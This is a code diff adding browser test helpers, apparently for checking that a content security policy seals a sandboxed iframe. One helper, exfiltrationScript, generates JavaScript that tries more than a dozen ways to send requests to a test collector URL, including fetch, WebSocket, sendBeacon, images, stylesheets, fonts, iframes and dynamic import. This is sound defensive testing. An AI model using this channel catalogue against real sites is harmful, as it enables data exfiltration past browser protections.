@@ -158,3 +158,66 @@ export function recorder() {
   return { reports, other, onMessage, kinds, find, waitFor }
 }
 
+
+/** Signals that hostile test pages post to `parent` (as JSON-RPC notifications, so a proxy relays them). */
+export interface TestSignal {
+  method: string
+  params: Record<string, unknown>
+}
+
+/** Collects `test/*` notifications reaching this window from any frame (the bridge ignores them). */
+export function signals() {
+  const seen: TestSignal[] = []
+  const onMessage = (event: MessageEvent) => {
+    const data = event.data as Partial<TestSignal> | undefined
+    if (data && typeof data.method === 'string' && data.method.startsWith('test/')) seen.push({ method: data.method, params: data.params ?? {} })
+  }
+  window.addEventListener('message', onMessage)
+  const of = (method: string, match: Record<string, unknown> = {}) =>
+    seen.filter((s) => s.method === method && Object.entries(match).every(([k, v]) => s.params[k] === v))
+  return {
+    seen,
+    of,
+    waitFor: (method: string, match: Record<string, unknown> = {}, timeout = 10_000) =>
+      vi.waitFor(() => expect(of(method, match).length).toBeGreaterThan(0), { timeout }),
+    stop: () => window.removeEventListener('message', onMessage),
+  }
+}
+
+/** What the collector (hostile-peers.global-setup.ts) received for URLs containing `tag`. */
+export async function collected(collectorUrl: string, tag: string): Promise<{ url: string; kind: string }[]> {
+  const response = await fetch(`${collectorUrl}/__hits?tag=${encodeURIComponent(tag)}`, { cache: 'no-store' })
+  return (await response.json()) as { url: string; kind: string }[]
+}
+
+/**
+ * A script that tries every way out of the sandbox we know of towards `collectorUrl` (tagged
+ * `case=<tag>`), while parsing, at load and a little later, then posts `test/ran`. Only CSP
+ * stands between each attempt and the collector.
+ */
+export function exfiltrationScript(collectorUrl: string, tag: string): string {
+  return `(function () {
+  var base = ${JSON.stringify(collectorUrl)};
+  var u = function (via) { return base + '/x?case=${tag}&via=' + via; };
+  var attempt = function (fn) { try { fn(); } catch (e) {} };
+  var go = function (phase) {
+    attempt(function () { fetch(u('fetch-' + phase), { mode: 'no-cors' }).catch(function () {}); });
+    attempt(function () { var x = new XMLHttpRequest(); x.open('GET', u('xhr-' + phase)); x.send(); });
+    attempt(function () { new WebSocket(u('ws-' + phase).replace('http', 'ws')); });
+    attempt(function () { new EventSource(u('sse-' + phase)); });
+    attempt(function () { navigator.sendBeacon(u('beacon-' + phase), 'x'); });
+    attempt(function () { var i = new Image(); i.src = u('img-' + phase); });
+    attempt(function () { var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u('css-' + phase); document.documentElement.appendChild(l); });
+    attempt(function () { var l = document.createElement('link'); l.rel = 'prefetch'; l.href = u('prefetch-' + phase); document.documentElement.appendChild(l); });
+    attempt(function () { var s = document.createElement('script'); s.src = u('script-' + phase); document.documentElement.appendChild(s); });
+    attempt(function () { var f = document.createElement('iframe'); f.src = u('frame-' + phase); document.documentElement.appendChild(f); });
+    attempt(function () { var a = new Audio(); a.src = u('media-' + phase); });
+    attempt(function () { var st = document.createElement('style'); st.textContent = '@font-face{font-family:x;src:url(' + u('font-' + phase) + ')} html{background:url(' + u('bg-' + phase) + ');font-family:x}'; document.documentElement.appendChild(st); });
+    attempt(function () { import(u('import-' + phase)).catch(function () {}); });
+  };
+  go('parse');
+  addEventListener('load', function () { go('load'); });
+  setTimeout(function () { go('later'); }, 50);
+  parent.postMessage({ jsonrpc: '2.0', method: 'test/ran', params: { case: '${tag}' } }, '*');
+})();`
+}
